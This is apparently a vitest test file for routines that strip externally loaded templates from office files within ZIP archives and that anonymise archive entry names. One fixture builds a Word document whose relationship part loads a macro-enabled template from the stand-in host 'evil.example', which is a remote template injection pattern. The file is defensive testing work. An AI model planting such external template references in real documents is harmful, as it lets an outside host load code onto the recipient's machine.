import * as zlib from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { decodeUtf8Strict, encodeUtf8 } from '../../encoding/utf8.ts';
import { newDocument } from '../document/new-document.ts';
import { binaryText } from '../fixtures/real-files.ts';
import { zlibCodec } from '../fixtures/zlib-codec.ts';
import { readPart, readZip, replaceParts, writeZip } from '../zip/zip.ts';
import { archiveWithoutExternalContent, isPlainArchive, namelessArchive } from './plain-archive.ts';

const codec = zlibCodec(zlib);
const packed = (files: Record<string, string | Uint8Array>): Uint8Array =>
  writeZip(
    Object.entries(files).map(([name, file]) => ({
      name,
      bytes: typeof file === 'string' ? encodeUtf8(file) : file,
    })),
    codec.deflate,
  );
const fileIn = (archive: Uint8Array, name: string): Uint8Array => {
  const entry = readZip(archive).byName.get(name);
  if (!entry) throw new Error(`there is no ${name}`);
  return readPart(entry, codec.inflate);
};
const textIn = (archive: Uint8Array, name: string) => decodeUtf8Strict(fileIn(archive, name));

const TEMPLATE = 'https://evil.example/t.dotm';
const RELS = 'word/_rels/settings.xml.rels';
const plainDocument = newDocument({ paragraphs: ['Text'] }, codec.deflate);
/** A document that loads its template from elsewhere. */
const callingDocument = replaceParts(
  plainDocument,
  readZip(plainDocument),
  new Map([
    [
      RELS,
      encodeUtf8(
        `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${TEMPLATE}" TargetMode="External"/></Relationships>`,
      ),
    ],
  ]),
  codec.deflate,
);
/** One of its parts doesn't match the directory. */
const damagedDocument = (() => {
  const bytes = callingDocument.slice();
  readZip(bytes).byName.get(RELS)?.raw.fill(0x55);
  return bytes;
})();
const nested = (file: Uint8Array, depth: number): Uint8Array =>
  depth === 0 ? file : packed({ 'inner.zip': nested(file, depth - 1) });

describe('isPlainArchive', () => {
  it.each([
    ['an archive of files', packed({ 'a.txt': 'A' }), true],
    ['an office file', plainDocument, false],
    ['a text', encodeUtf8('PK, he wrote.'), false],
    ['an archive that was cut off', packed({ 'a.txt': 'A' }).slice(0, -4), false],
  ])('is for %s %s', (_, bytes, expected) => expect(isPlainArchive(bytes)).toBe(expected));
});

describe('archiveWithoutExternalContent', () => {
  it('treats office files whatever they are called, and leaves all others as they are', () => {
    const files = { 'essay.docx': callingDocument, 'data.bin': callingDocument, 'a.txt': TEMPLATE };
    const clean = archiveWithoutExternalContent(packed(files), codec);
    for (const name of ['essay.docx', 'data.bin']) {
      const document = fileIn(clean, name);
      expect(textIn(document, RELS)).not.toContain('evil.example');
      expect(textIn(document, 'word/document.xml')).toContain('Text');
    }
    expect(textIn(clean, 'a.txt')).toBe(TEMPLATE);
  });

  it('treats office files in archives within it, and empties archives nested too deep', () => {
    const twice = archiveWithoutExternalContent(
      nested(packed({ 'e.docx': callingDocument }), 2),
      codec,
    );
    const document = fileIn(fileIn(fileIn(twice, 'inner.zip'), 'inner.zip'), 'e.docx');
    expect(textIn(document, RELS)).not.toContain('evil.example');
    const deep = archiveWithoutExternalContent(
      nested(packed({ 'e.docx': callingDocument }), 3),
      codec,
    );
    expect(fileIn(fileIn(fileIn(deep, 'inner.zip'), 'inner.zip'), 'inner.zip')).toHaveLength(0);
  });

  it('returns an archive that needs nothing as the same array', () => {
    const bytes = packed({ 'essay.docx': plainDocument, 'folder/': '', 'folder/a.txt': 'A' });
    expect(archiveWithoutExternalContent(bytes, codec)).toBe(bytes);
  });

  it('leaves a damaged office file as it is, and treats the others', () => {
    const files = { 'broken.docx': damagedDocument, 'essay.docx': callingDocument };
    const clean = archiveWithoutExternalContent(packed(files), codec);
    expect(fileIn(clean, 'broken.docx')).toEqual(damagedDocument);
    expect(textIn(fileIn(clean, 'essay.docx'), RELS)).not.toContain('evil.example');
  });
});

describe('namelessArchive', () => {
  const upper = (file: Uint8Array) => encodeUtf8((decodeUtf8Strict(file) ?? '').toUpperCase());

  it('numbers the files, without folders and dates, and treats each of them', () => {
    const inner = packed({ 'Kone/notes.txt': 'inner' });
    const bytes = packed({
      'Amara Kone/': '',
      'Amara Kone/essay by Amara.TXT': 'a',
      'more.zip': inner,
    });
    const copy = namelessArchive(bytes, codec, upper);
    expect(readZip(copy).entries.map(({ name }) => name)).toEqual(['1.txt', '2.zip']);
    expect(textIn(copy, '1.txt')).toBe('A');
    expect(textIn(fileIn(copy, '2.zip'), '1.txt')).toBe('INNER');
    expect(binaryText(copy)).not.toContain('Kone');
  });

  it('empties what cannot be read, since it may name someone', () => {
    const copy = namelessArchive(packed({ 'broken.docx': damagedDocument }), codec, (file) => {
      for (const entry of readZip(file).entries) readPart(entry, codec.inflate);
      return file;
    });
    expect(fileIn(copy, '1.docx')).toHaveLength(0);
  });
});
